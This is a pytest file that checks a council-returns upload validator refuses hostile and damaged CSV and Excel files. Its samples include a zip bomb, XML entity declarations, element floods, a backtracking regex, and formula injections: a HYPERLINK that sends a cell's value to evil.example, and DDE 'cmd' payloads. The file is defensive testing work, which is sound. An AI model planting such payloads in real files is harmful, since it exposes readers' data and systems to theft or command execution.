"""Issue 11, findings 5-9: hostile and broken files are refused with one clear sentence, store
nothing, and never raise. Each file is built here, as small as the finding allows; the big ones are
refused by a limit before their figures are read (timings are in scripts/bench_validation.py).
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import operator
import os
import pickle
import re
import resource
import time
import zipfile

import openpyxl
import pytest

from benchmark import reference
from benchmark.definitions.standard import (
    MAX_CELL_CHARS,
    MAX_COLUMNS,
    MAX_FILE_BYTES,
    MAX_PART_ELEMENTS,
    MAX_READING_MEMORY,
    MAX_ROW_CELLS,
    MAX_ROWS,
    MAX_SHARED_STRINGS,
    MAX_SHEETS,
    MAX_UNZIPPED_BYTES,
    columns,
)
from benchmark.intake import containment, reading, validation
from benchmark.intake.reading import Deadline
from benchmark.intake.returns import store_file
from benchmark.intake.validation import MAX_REPORTED, validate
from benchmark.periods import Period, PeriodError

ADVICE = [spec.name for spec in columns("advice")]
ADVICE_FIGURES = [48, 45, 37, 3, 9, 4, 15, 11, 40, 21, 14]
ADVICE_OPTIONAL_BLANK = len(ADVICE) - 3 - len(ADVICE_FIGURES)  # the annual-review counts, left blank
ADVICE_ROW = "Camden,2025-26 Q1,," + ",".join(map(str, ADVICE_FIGURES)) + "," * ADVICE_OPTIONAL_BLANK


def advice_csv(*rows: str, header: str = ",".join(ADVICE)) -> bytes:
    return ("\r\n".join([header, *rows]) + "\r\n").encode()


def refusal(report) -> str:
    """The one file-level reason of a refused report: a single line, a whole sentence."""
    assert not report.ok and report.rows == []
    assert len(report.errors) == 1, report.errors
    message = report.errors[0].message
    assert "\n" not in message and "Traceback" not in message
    assert message[0].isupper() and message.endswith("."), message
    return message


def workbook(*sheets: tuple[str, list[list[object]]], hidden: tuple[str, ...] = ()) -> bytes:
    """An .xlsx with these sheets in order (name, rows from A1)."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets:
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append(row)
        if name in hidden:
            sheet.sheet_state = "hidden"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()



# --- finding 5: limits on size, rows, columns, cells, unpacked size and time -------------------


def test_a_file_over_the_size_limit_is_refused_before_reading(today):
    content = advice_csv(ADVICE_ROW) + b" " * MAX_FILE_BYTES.value
    message = refusal(validate("big.csv", content, today=today))
    assert f"{len(content):,} bytes" in message and f"{MAX_FILE_BYTES.value:,}" in message


def test_twenty_thousand_columns_are_refused_at_the_header(today):
    header = ",".join(ADVICE + [f"extra_{number}" for number in range(20_000)])
    content = advice_csv(*[ADVICE_ROW] * 200, header=header)
    message = refusal(validate("wide.csv", content, today=today))
    assert f"Line 1 has {len(ADVICE) + 20_000:,} cells" in message
    assert f"at most {MAX_ROW_CELLS.value:,} cells in one row" in message


def test_a_hundred_columns_are_refused_at_the_header(today):
    header = ",".join(ADVICE + [f"extra_{number}" for number in range(100)])
    message = refusal(validate("wide.csv", advice_csv(ADVICE_ROW, header=header), today=today))
    assert f"Row 1 has {len(ADVICE) + 100} columns" in message and f"at most {MAX_COLUMNS.value} columns" in message


def test_blank_columns_after_the_last_heading_do_not_count(make_csv, example_row, today):
    report = validate("blank.csv", make_csv("advice", [example_row("advice")], blank_columns=5_000), today=today)
    assert report.ok, report.errors


def test_a_flood_of_duplicate_rows_is_refused_by_the_row_limit(today):
    content = advice_csv(*[ADVICE_ROW] * (MAX_ROWS.value + 5))
    message = refusal(validate("flood.csv", content, today=today))
    assert f"More than {MAX_ROWS.value:,} rows of figures" in message


def test_a_flood_of_blank_rows_is_refused(today):
    content = advice_csv(ADVICE_ROW, *[","] * (reading.MAX_BLANK_ROWS + 1))
    assert "blank rows" in refusal(validate("blank.csv", content, today=today))


def test_errors_are_capped_and_the_rest_counted(today):
    # 1,000 fractions, and the same authority and quarter 999 times more: 1,999 problems.
    rows = [f"Camden,2025-26 Q1,,{number}.5,45,37,3,9,4,15,11,40,21,14" for number in range(1_000)]
    report = validate("bad.csv", advice_csv(*rows), today=today)
    assert len(report.errors) == MAX_REPORTED and report.errors_not_shown == 1_999 - MAX_REPORTED
    assert "1,999 problem(s)" in report.summary and f"the first {MAX_REPORTED} are listed" in report.summary
    assert "1,799 more problem(s) not listed" in report.more_errors
    assert report.as_dict()["errors_not_shown"] == 1_799


def test_a_cell_longer_than_excel_allows_is_refused(today):
    content = advice_csv(f"Camden,2025-26 Q1,{'n' * (MAX_CELL_CHARS.value + 1)},48,45,37,3,9,4,15,11,40,21,14")
    message = refusal(validate("long.csv", content, today=today))
    assert "Row 2, column 3 holds 32,768 characters" in message and "Excel's own limit" in message


def test_a_notes_cell_beyond_the_csv_field_limit_is_a_reason_not_a_traceback(today):
    content = advice_csv(f'Camden,2025-26 Q1,"{"n" * 131_073}",48,45,37,3,9,4,15,11,40,21,14')
    message = refusal(validate("notes.csv", content, today=today))
    assert "more than 131,072 characters" in message and "Row 2" in message


def test_a_workbook_that_unpacks_too_large_is_refused_before_reading(today):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (MAX_UNZIPPED_BYTES.value + 1))
    assert len(buffer.getvalue()) < 200_000  # a zip bomb: tiny packed, huge unpacked
    message = refusal(validate("bomb.xlsx", buffer.getvalue(), today=today))
    assert "unpacks to" in message and f"{MAX_UNZIPPED_BYTES.value:,}" in message


def test_a_million_row_sheet_stops_at_the_row_limit(today):
    rows = [ADVICE] + [[n] for n in range(MAX_ROWS.value + 10)]
    message = refusal(validate("sparse.xlsx", workbook(("Return", rows)), today=today))
    assert f"Sheet 'Return': more than {MAX_ROWS.value:,} rows of figures" in message


def test_checking_that_runs_out_of_time_is_refused(today, monkeypatch):
    monkeypatch.setattr(validation, "Deadline", lambda: Deadline(0))
    message = refusal(validate("slow.csv", advice_csv(*[ADVICE_ROW] * 600), today=today))
    assert "Checking took more than 0 seconds" in message


# --- finding 6: quarters from 2015-16 to the current quarter -----------------------------------


@pytest.mark.parametrize("written", ["0000-01 Q1", "0001-02 Q1", "2014-15 Q4", "Q1 1999/00"])
def test_an_ancient_quarter_is_refused_and_nothing_crashes(written, make_csv, example_row, today):
    with pytest.raises(PeriodError, match="before 2015-16 Q1"):
        Period.parse(written)
    report = validate("old.csv", make_csv("advice", [example_row("advice", period=written)]), today=today)
    assert [(problem.row, problem.column, problem.value) for problem in report.errors] == [(2, "period", written)]
    assert "the first quarter the network's returns cover" in report.errors[0].message


def test_a_quarter_past_the_calendar_is_refused_not_a_crash(make_csv, example_row, today):
    with pytest.raises(PeriodError, match="not a quarter a return can cover"):
        Period.parse("9999-00 Q4")
    report = validate("far.csv", make_csv("advice", [example_row("advice", period="9999-00 Q4")]), today=today)
    assert [(problem.column, problem.value) for problem in report.errors] == [("period", "9999-00 Q4")]


def test_the_first_quarter_is_accepted(make_csv, example_row, today):
    report = validate("first.csv", make_csv("advice", [example_row("advice", period="2015-16 Q1")]), today=today)
    assert report.ok, report.errors


def test_an_ancient_quarter_on_the_command_line_is_a_reason(benchmark_cli, tmp_path):
    process = benchmark_cli("compare", "--period", "0000-01 Q1", "--metric", "ehcp_20wk_pct",
                            db=tmp_path / "x.duckdb")
    assert process.returncode == 2 and "before 2015-16 Q1" in process.stderr and "Traceback" not in process.stderr


# --- finding 7: plausibility ranges, rules of the standard -------------------------------------


@pytest.mark.parametrize(("column", "written", "reason"), [
    ("adv_requests", "100000000000000000000000000", "children aged 0-17"),
    ("adv_requests", "1e26", "is not a number"),
    ("ehcp_issued", "1,000,000", "children aged 0-17"),
])
def test_counts_beyond_the_child_population_are_errors(column, written, reason, make_csv, example_row, today):
    report = validate("adv.csv", make_csv("advice", [example_row("advice", **{column: written})]), today=today)
    problems = [problem for problem in report.errors if problem.column == column]
    assert problems and reason in problems[0].message and not report.ok


def test_the_count_limit_is_each_authoritys_own_population(make_csv, example_row, today):
    scilly = reference.population_for("420", 2025)
    assert scilly < 1_000
    rows = [example_row("advice", "420", adv_requests=str(scilly + 1), adv_returned="0", adv_returned_6wk="0",
                        adv_late_exception="0", adv_nil_returns="0"),
            example_row("advice", "202", adv_requests=str(scilly + 1))]
    report = validate("adv.csv", make_csv("advice", rows), today=today)
    assert [(problem.row, problem.column) for problem in report.errors] == [(2, "adv_requests")]
    assert f"Isles of Scilly has {scilly:,} children aged 0-17" in report.errors[0].message


@pytest.mark.parametrize(("written", "ok"), [("£72", True), ("-£72", False), ("$72", False), ("€72", False),
                                             ("-", False), ("+", False), ("+72", True)])
def test_signs_around_money(written, ok, make_csv, example_row, today):
    report = validate("sb.csv", make_csv("short_breaks", [example_row("short_breaks", sb_spend_gbp=written)]),
                      today=today)
    assert report.ok is ok, report.errors
    if not ok:
        assert [(p.column, p.value) for p in report.errors] == [("sb_spend_gbp", written)]


@pytest.mark.parametrize(("column", "written", "words"), [
    ("sb_spend_gbp", "£50,000,001", "more than £50,000,000"),
    ("sb_assessment_days_median", "731", "more than 730 days"),
    ("sb_statement_reviewed", "0001-01-01", "is before 01 January 2000"),
    ("sb_statement_reviewed", "31/12/1999", "is before 01 January 2000"),
    ("sb_nights_delivered", "99999999", "92 nights for each child aged 0-17"),
])
def test_money_days_dates_and_nights_have_stated_bounds(column, written, words, make_csv, example_row, today):
    row = example_row("short_breaks", sb_children_overnight="c", **{column: written})
    report = validate("sb.csv", make_csv("short_breaks", [row]), today=today)
    problem = next(problem for problem in report.errors if problem.column == column)
    assert words in problem.message and problem.value == written


def test_the_bounds_themselves_are_accepted(make_csv, example_row, today):
    row = example_row("short_breaks", sb_spend_gbp="£50,000,000", sb_assessment_days_median="730",
                      sb_statement_reviewed="2000-01-01")
    assert validate("sb.csv", make_csv("short_breaks", [row]), today=today).ok


def test_each_range_is_a_rule_of_the_standard_in_the_docs():
    from benchmark.definitions.standard import VALUE_FIELDS, Kind
    from benchmark.intake.templates import standard_markdown

    document = standard_markdown()
    for spec in VALUE_FIELDS.values():
        if spec.kind is Kind.CHOICE:  # an answer from a list (the DSCO role) has its list, not a range
            assert spec.plausible is None and spec.choices, spec.name
            assert all(choice in document for choice in spec.choices), spec.name
            continue
        assert spec.plausible is not None, spec.name
        assert spec.plausible.reason in document and spec.plausible.describe in document


# --- finding 8: silent wrong data --------------------------------------------------------------


def test_a_formula_without_its_saved_value_is_an_error(today):
    rows = [ADVICE, ["Camden", "2025-26 Q1", None, "=40+8", *ADVICE_FIGURES[1:]]]
    report = validate("formula.xlsx", workbook(("Return", rows)), today=today)
    assert [(p.sheet, p.row, p.column, p.value) for p in report.errors] == [
        ("Return", 2, "adv_requests", "=40+8")]
    assert "formula saved without its value" in report.errors[0].message


def test_a_hidden_first_sheet_is_not_read_instead_of_the_visible_one(today):
    hidden = [ADVICE, ["Camden", "2025-26 Q1", None, 999, 998, *ADVICE_FIGURES[2:]]]
    visible = [ADVICE, ["Camden", "2025-26 Q1", None, 72, 65, *ADVICE_FIGURES[2:]]]
    report = validate("two.xlsx", workbook(("Old", hidden), ("Return", visible), hidden=("Old",)), today=today)
    assert report.ok, report.errors
    assert (report.rows[0].values["adv_requests"], report.rows[0].values["adv_returned"]) == (72.0, 65.0)
    assert "Hidden sheet(s) 'Old'" in report.warnings[0].message


def test_figures_only_on_a_hidden_sheet_are_an_error(today):
    hidden = [ADVICE, ["Camden", "2025-26 Q1", None, *ADVICE_FIGURES]]
    content = workbook(("Cover", [["Quarterly return"]]), ("Data", hidden), hidden=("Data",))
    message = refusal(validate("hidden.xlsx", content, today=today))
    assert "hidden sheet(s) 'Data'" in message and "Unhide" in message


@pytest.mark.parametrize(("written", "words"), [("7 2", "with a space inside it"), ("£72", "has a currency sign"),
                                                ("$72", "has a currency sign"), ("1 234", "with a space inside it")])
def test_a_space_inside_a_number_or_a_currency_sign_in_a_count_is_an_error(written, words, make_csv, example_row,
                                                                           today):
    report = validate("adv.csv", make_csv("advice", [example_row("advice", adv_overdue_open=written)]), today=today)
    assert [(p.row, p.column, p.value) for p in report.errors] == [(2, "adv_overdue_open", written)]
    assert words in report.errors[0].message


@pytest.mark.parametrize(("written", "value"), [(" 49", 49.0), ("1,234", 1234.0), (" 1,234 ", 1234.0)])
def test_spaces_around_and_thousands_separators_stay_accepted(written, value, make_csv, example_row, today):
    row = example_row("short_breaks", sb_children_total=written, sb_children_daytime="c",
                      sb_children_direct_payment="c")
    report = validate("sb.csv", make_csv("short_breaks", [row]), today=today)
    assert report.ok, report.errors
    assert report.rows[0].values["sb_children_total"] == value


def test_a_file_mixing_utf8_and_windows_1252_is_refused(today):
    content = advice_csv("Camden,2025-26 Q1,café,48,45,37,3,9,4,15,11,40,21,14") + \
        "Islington,2025-26 Q1,£100 spent,48,45,37,3,9,4,15,11,40,21,14\r\n".encode("cp1252")
    message = refusal(validate("mixed.csv", content, today=today))
    assert "mixes two encodings" in message and "line 2 is UTF-8 but line 3 is not" in message


def test_a_byte_in_neither_encoding_is_refused(today):
    content = advice_csv("Camden,2025-26 Q1,cafX,48,45,37,3,9,4,15,11,40,21,14").replace(b"cafX", b"caf\x81")
    assert "0x81" in refusal(validate("odd.csv", content, today=today))


# --- finding 9: every decoding or parsing failure is a reason, never a traceback ---------------


def test_odd_length_utf16_is_a_reason(today):
    content = advice_csv(ADVICE_ROW).decode().encode("utf-16")[:-1]
    assert len(content) % 2 == 1
    message = refusal(validate("u16.csv", content, today=today))
    assert "says it is UTF-16" in message and "cut short or damaged" in message


@pytest.mark.parametrize("encoding", ["utf-32", "utf-16"])
def test_utf32_and_utf16_with_a_byte_order_mark_are_read(encoding, today):
    content = advice_csv(ADVICE_ROW).decode().encode(encoding)
    assert content.startswith((codecs.BOM_UTF32_LE, codecs.BOM_UTF16_LE))
    report = validate("wide.csv", content, today=today)
    assert report.ok, report.errors
    assert report.rows[0].la_code == "202"


def test_corrupt_sheet_xml_is_a_reason(today):
    content = workbook(("Return", [ADVICE, ["Camden", "2025-26 Q1", None, *ADVICE_FIGURES]]))
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as damaged:
        for item in source.infolist():
            data = source.read(item)
            damaged.writestr(item, data.replace(b"</sheetData>", b"<row></sheetData>")
                             if item.filename.endswith("sheet1.xml") else data)
    message = refusal(validate("broken.xlsx", buffer.getvalue(), today=today))
    assert "sheet 'Return' cannot be read" in message and "save it again" in message


@pytest.mark.parametrize("damage", ["cut", "flipped", "style"])
def test_a_damaged_archive_is_a_reason(damage, today):
    content = workbook(("Return", [ADVICE, ["Camden", "2025-26 Q1", None, *ADVICE_FIGURES]]))
    if damage == "cut":
        content = content[: len(content) // 2]
    elif damage == "flipped":
        source = zipfile.ZipFile(io.BytesIO(content))
        info = source.getinfo("xl/worksheets/sheet1.xml")
        start = info.header_offset + 30 + len(info.filename) + len(info.extra) + 20
        content = content[:start] + bytes(255 - byte for byte in content[start:start + 40]) + content[start + 40:]
    else:
        source = zipfile.ZipFile(io.BytesIO(content))
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as damaged:
            for item in source.infolist():
                data = source.read(item)
                damaged.writestr(item, data.replace(b'<c r="D2"', b'<c s="bold" r="D2"')
                                 if item.filename.endswith("sheet1.xml") else data)
        content = buffer.getvalue()
    message = refusal(validate("damaged.xlsx", content, today=today))
    assert "damaged" in message or "not a CSV or .xlsx" in message


def test_a_sheet_padded_with_millions_of_elements_is_refused(today):
    content = workbook(("Return", [ADVICE, ["Camden", "2025-26 Q1", None, *ADVICE_FIGURES]]))
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as padded:
        for item in source.infolist():
            data = source.read(item)
            padded.writestr(item.filename, data.replace(b"</sheetData>", b"</sheetData>" + b"<x/>" * 100_001)
                            if item.filename.endswith("sheet1.xml") else data)
    message = refusal(validate("padded.xlsx", buffer.getvalue(), today=today))
    assert "Sheet 'Return' holds more than 100,000 XML elements outside its rows" in message


def test_xml_entities_are_refused(today):
    content = workbook(("Return", [ADVICE]))
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as hostile:
        for item in source.infolist():
            data = source.read(item)
            hostile.writestr(item, b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + data
                             if item.filename.endswith("sheet1.xml") else data)
    message = refusal(validate("entities.xlsx", buffer.getvalue(), today=today))
    assert "declares a document type or XML entities" in message


def test_instructions_sheet_first_and_a_title_row_above_the_header(today):
    instructions = [["How to fill in this return"], ["Put one row per quarter on the Data sheet."]]
    data = [["Camden: social care advice return"], [], ADVICE, ["Camden", "2025-26 Q1", None, *ADVICE_FIGURES]]
    report = validate("council.xlsx", workbook(("Instructions", instructions), ("Data", data)), today=today)
    assert report.ok, report.errors
    assert [(row.sheet, row.file_row, row.la_code) for row in report.rows] == [("Data", 4, "202")]


def test_a_title_row_above_the_header_of_a_csv(today):
    content = b"DSCO return for Camden,,,\r\n" + advice_csv(ADVICE_ROW)
    report = validate("titled.csv", content, today=today)
    assert report.ok, report.errors
    assert report.rows[0].file_row == 3


def test_a_long_working_sheet_beside_the_return_is_not_read(today):
    working = [["workings"], *[[number, number * 2] for number in range(MAX_ROWS.value + 10)]]
    data = [ADVICE, ["Camden", "2025-26 Q1", None, *ADVICE_FIGURES]]
    report = validate("council.xlsx", workbook(("Working", working), ("Return", data)), today=today)
    assert report.ok, report.errors


def test_a_workbook_with_no_return_on_any_sheet_says_what_to_do(today):
    content = workbook(("Instructions", [["Read me"]]), ("Sheet2", [["totals", 5]]))
    message = refusal(validate("none.xlsx", content, today=today))
    assert "'Instructions', 'Sheet2'" in message and "python -m benchmark template" in message


# --- and none of them stores anything ----------------------------------------------------------


HOSTILE = {
    "wide.csv": advice_csv(ADVICE_ROW, header=",".join(ADVICE + [f"x{n}" for n in range(100)])),
    "flood.csv": advice_csv(*[ADVICE_ROW] * (MAX_ROWS.value + 1)),
    "old.csv": advice_csv(ADVICE_ROW.replace("2025-26", "0001-02")),
    "huge.csv": advice_csv(ADVICE_ROW.replace(",48,", ",100000000000000000000000000,")),
    "space.csv": advice_csv(ADVICE_ROW.replace(",48,", ",4 8,")),
    "pound.csv": advice_csv(ADVICE_ROW.replace(",48,", ",£48,")),
    "mixed.csv": advice_csv("Camden,2025-26 Q1,café,48,45,37,3,9,4,15,11,40,21,14") + "£".encode("cp1252"),
    "u16.csv": advice_csv(ADVICE_ROW).decode().encode("utf-16")[:-1],
    "notes.csv": advice_csv(f'Camden,2025-26 Q1,"{"n" * 131_073}",48,45,37,3,9,4,15,11,40,21,14'),
    "formula.xlsx": workbook(("Return", [ADVICE, ["Camden", "2025-26 Q1", None, "=1+1", *ADVICE_FIGURES[1:]]])),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_hostile_file_stores_nothing(name, tmp_db, today):
    result = store_file(tmp_db, name, HOSTILE[name], "uploader@example.org", today=today)
    assert result.status == "refused" and "Nothing has been stored" in result.message
    assert all(problem.message.endswith((".", "?")) for problem in result.report.errors)
    assert tmp_db.scalar("SELECT count(*) FROM submissions") == 0
    assert tmp_db.scalar("SELECT count(*) FROM return_rows") == 0


def test_the_dates_used_here_are_still_in_range(today):
    assert today >= dt.date(2025, 7, 1)  # 2025-26 Q1 rows above must not be "in the future"


# --- issue 17 item 5: uploads that cannot hurt the server ---------------------------------------
# Each hostile file of the "Why", scaled down where the limit is reached long before the
# original size; every one must be refused with its reason within the time target.

# Each refusal below names the limit that stopped the file: reached early, not by running out of time.
# The 5-second target is measured on a quiet machine by scripts/bench_validation.py; this bound only
# catches a file that was read to the end on a test machine that may be shared and busy.
HOSTILE_SECONDS = 30.0
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def replaced_part(content: bytes, part: str, data: bytes) -> bytes:
    """The workbook with one part's XML replaced (added if missing)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as hostile:
        for item in source.infolist():
            if item.filename != part:
                hostile.writestr(item.filename, source.read(item))
        hostile.writestr(part, data)
    return buffer.getvalue()


def timed_refusal(name: str, content: bytes, today) -> str:
    start = time.monotonic()
    message = refusal(validate(name, content, today=today))
    assert time.monotonic() - start < HOSTILE_SECONDS, message
    return message


def valid_book() -> bytes:
    return workbook(("Return", [ADVICE, ["Camden", "2025-26 Q1", None, *ADVICE_FIGURES]]))


@pytest.mark.parametrize("part", ["xl/styles.xml", "xl/workbook.xml"])
def test_a_part_that_is_a_long_run_of_empty_elements_is_refused_while_parsed(part, today):
    # The 63 KB workbook: millions of empty elements cost 12 s and 1.5 GB as a tree.
    run = f'<styleSheet {_NS}>'.encode() + b"<x/>" * 3_000_000 + b"</styleSheet>"
    content = replaced_part(valid_book(), part, run)
    assert len(content) < 100_000
    message = timed_refusal("empty-elements.xlsx", content, today)
    assert f"holds more than {MAX_PART_ELEMENTS.value:,} XML elements" in message


def test_one_row_of_millions_of_cells_is_refused_at_the_cell_beyond_excels_columns(today):
    cells = b"<c/>" * (MAX_ROW_CELLS.value + 100)
    sheet = f'<worksheet {_NS}><sheetData><row r="1">'.encode() + cells + b"</row></sheetData></worksheet>"
    message = timed_refusal("wide-row.xlsx", replaced_part(valid_book(), "xl/worksheets/sheet1.xml", sheet), today)
    assert f"Sheet 'Return': row 1 has more than {MAX_ROW_CELLS.value:,} cells" in message


def test_two_hundred_thousand_sheets_are_refused_at_the_sheet_beyond_the_limit(today):
    sheets = b"".join(f'<sheet name="S{n}" sheetId="{n}"/>'.encode() for n in range(200_000))
    book = f'<workbook {_NS}><sheets>'.encode() + sheets + b"</sheets></workbook>"
    message = timed_refusal("sheets.xlsx", replaced_part(valid_book(), "xl/workbook.xml", book), today)
    assert message.startswith(f"The workbook has more than {MAX_SHEETS.value:,} sheets")


def test_a_table_of_too_many_shared_strings_is_refused_while_read(today):
    strings = b"".join(f"<si><t>{n}</t></si>".encode() for n in range(MAX_SHARED_STRINGS.value + 10))
    table = f'<sst {_NS}>'.encode() + strings + b"</sst>"
    sheet = f'<worksheet {_NS}><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'
    content = replaced_part(valid_book(), "xl/worksheets/sheet1.xml", sheet.encode())
    message = timed_refusal("strings.xlsx", replaced_part(content, "xl/sharedStrings.xml", table), today)
    assert f"more than {MAX_SHARED_STRINGS.value:,} different texts" in message


def test_megabytes_of_commas_get_the_true_reason(today):
    message = timed_refusal("commas.csv", b"," * 2_000_000, today)
    assert message.startswith("The file holds only separators") and "empty" not in message


def test_a_line_of_a_million_separators_is_refused_before_it_becomes_a_row(today):
    message = timed_refusal("commas.csv", advice_csv(ADVICE_ROW, "x" + "," * 1_000_000 + "y"), today)
    assert f"Line 3 has 1,000,001 cells: a return may have at most {MAX_ROW_CELLS.value:,} cells" in message


def naive_chunk_scan(xml: bytes, chunk: int = 1 << 16) -> bool:
    """The entity guard the issue beat: looks for the declarations in each 64 KiB chunk on its own."""
    return any(b"<!DOCTYPE" in xml[at:at + chunk] or b"<!ENTITY" in xml[at:at + chunk]
               for at in range(0, len(xml), chunk))


def test_a_doctype_split_across_chunks_is_refused_and_nothing_expanded(tmp_db, today):
    sheet = zipfile.ZipFile(io.BytesIO(valid_book())).read("xl/worksheets/sheet1.xml")
    declaration = sheet.index(b"?>") + 2 if sheet.startswith(b"<?xml") else 0
    # "<!DOC" ends one 64 KiB chunk and "TYPE" starts the next; "<!ENT" and "ITY" likewise a chunk later.
    opening = sheet[:declaration] + b"<!--" + b" " * ((1 << 16) - declaration - len("<!---->") - 5) + b"-->"
    doctype = opening + b"<!DOCTYPE worksheet [<!--"
    doctype += b" " * ((2 << 16) - len(doctype) - len("--><!ENT")) + b"-->"
    hostile = doctype + b'<!ENTITY boom "' + b"B" * 1000 + b'">]>' + sheet[declaration:].replace(
        b"<v>48</v>", b"<v>&boom;</v>")
    for declared, boundary in ((b"<!DOCTYPE", 1 << 16), (b"<!ENTITY", 2 << 16)):
        assert hostile.index(declared) < boundary < hostile.index(declared) + len(declared)
    assert not naive_chunk_scan(hostile)  # the control: the old guard lets this file through
    content = replaced_part(valid_book(), "xl/worksheets/sheet1.xml", hostile)
    message = timed_refusal("split.xlsx", content, today)
    assert "declares a document type or XML entities" in message
    result = store_file(tmp_db, "split.xlsx", content, "uploader@example.org", today=today)
    assert result.status == "refused" and tmp_db.scalar("SELECT count(*) FROM submissions") == 0


def test_an_800_mb_csv_on_the_command_line_is_refused_before_it_is_read(benchmark_cli, tmp_path):
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as file:  # sparse: 800 MB long, no disk used
        file.truncate(800 * 1024 * 1024)
    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    start = time.monotonic()
    process = benchmark_cli("validate", str(huge), db=tmp_path / "x.duckdb")
    assert time.monotonic() - start < 30  # the command's own start-up; reading 800 MB is what must not happen
    assert process.returncode == 2 and "Traceback" not in process.stderr
    assert f"huge.csv is {800 * 1024 * 1024:,} bytes" in process.stderr and "nothing was read" in process.stderr
    peak_kb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    assert peak_kb < 500 * 1024 or peak_kb == before  # the command never held the file


def test_a_reading_that_outlives_its_time_is_killed_and_the_next_one_works(today):
    start = time.monotonic()
    with pytest.raises(containment.ContainedFailure) as failure:
        containment.run(time.sleep, 30, seconds=0.5, memory_bytes=MAX_READING_MEMORY.value)
    assert failure.value.kind == "time" and time.monotonic() - start < HOSTILE_SECONDS
    assert validate("ok.csv", advice_csv(ADVICE_ROW), today=today).ok


def test_a_parser_spinning_inside_c_code_is_stopped_by_its_processor_time():
    # A regular expression that backtracks for ever holds the interpreter inside C, as a parser can.
    with pytest.raises(containment.ContainedFailure) as failure:
        containment.run(re.fullmatch, r"(a+)+b", "a" * 64, seconds=60, cpu_seconds=1,
                        memory_bytes=MAX_READING_MEMORY.value)
    assert failure.value.kind == "processor time"


def test_a_reading_that_wants_too_much_memory_is_stopped_not_the_server(today):
    with pytest.raises(containment.ContainedFailure) as failure:
        containment.run(bytearray, 2 * MAX_READING_MEMORY.value, seconds=HOSTILE_SECONDS,
                        memory_bytes=MAX_READING_MEMORY.value)
    assert failure.value.kind == "memory"
    assert validate("ok.csv", advice_csv(ADVICE_ROW), today=today).ok


def test_a_reading_process_that_dies_is_a_reason(today, monkeypatch):
    with pytest.raises(containment.ContainedFailure) as failure:
        containment.run(os._exit, 1, seconds=HOSTILE_SECONDS, memory_bytes=MAX_READING_MEMORY.value)
    assert failure.value.kind == "crashed"
    assert validate("ok.csv", advice_csv(ADVICE_ROW), today=today).ok


def test_a_reply_may_not_carry_anything_but_data(today):
    with pytest.raises(pickle.UnpicklingError, match="may not hold"):
        containment.run(operator.attrgetter, "x", seconds=HOSTILE_SECONDS, memory_bytes=MAX_READING_MEMORY.value)


# --- issue 17 item 6: a formula in any cell is refused --------------------------------------------


def test_a_hyperlink_formula_in_a_csv_notes_cell_is_refused_with_its_place(today):
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click for the figures")'
    content = advice_csv(f'Camden,2025-26 Q1,"{formula.replace(chr(34), chr(34) * 2)}",48,45,37,3,9,4,15,11,40,21,14')
    report = validate("notes.csv", content, today=today)
    assert [(p.row, p.column, p.value) for p in report.errors] == [(2, "notes", formula)]
    assert "is a formula" in report.errors[0].message and not report.rows


@pytest.mark.parametrize(("written", "column"), [("@SUM(1+1)*cmd|' /C calc'!A0", "notes"),
                                                 ("+HYPERLINK(1)", "notes"), ("-2+3+cmd|' /C calc'!A0", "notes"),
                                                 ("=1+1", f"column {len(ADVICE) + 1}")])
def test_every_formula_start_in_any_column_is_refused(written, column, today):
    extra = column == f"column {len(ADVICE) + 1}"  # a column beyond the standard's
    header = ",".join([*ADVICE, "extra"]) if extra else ",".join(ADVICE)
    row = ADVICE_ROW + f",{written}" if extra else ADVICE_ROW.replace(",,", f',"{written}",', 1)
    report = validate("formula.csv", advice_csv(row, header=header), today=today)
    assert (2, column, written) in [(p.row, p.column, p.value) for p in report.errors]


@pytest.mark.parametrize("written", ["-", "+72", "- 0"])
def test_numbers_and_a_lone_dash_are_not_formulas(written):
    assert not validation.is_formula(written)


def test_a_formula_with_its_saved_value_in_a_workbook_is_refused(today):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Return"
    sheet.append(ADVICE)
    sheet.append(["Camden", "2025-26 Q1", '=HYPERLINK("http://evil.example","x")', *ADVICE_FIGURES])
    buffer = io.BytesIO()
    book.save(buffer)
    # openpyxl saves no value for a formula; Excel saves both: put the value in, as Excel would.
    content = replaced_part(buffer.getvalue(), "xl/worksheets/sheet1.xml", zipfile.ZipFile(buffer).read(
        "xl/worksheets/sheet1.xml").replace(b"</f><v></v>", b"</f><v>x</v>").replace(b"</f><v/>", b"</f><v>x</v>"))
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" in sheet_xml and b"<v>x</v>" in sheet_xml
    report = validate("formula.xlsx", content, today=today)
    assert [(p.sheet, p.row, p.column, p.value) for p in report.errors] == [
        ("Return", 2, "notes", '=HYPERLINK("http://evil.example","x")')]
    assert "is a formula, and a return holds values only" in report.errors[0].message


# --- issue 17 item 6: downloads that cannot hurt the reader -------------------------------------


def test_download_original_is_rebuilt_from_the_stored_rows_and_the_exact_bytes_stay_for_audit(tmp_db, today):
    from benchmark import service
    from benchmark.access.rights import AccessDenied, Role, User, local_operator

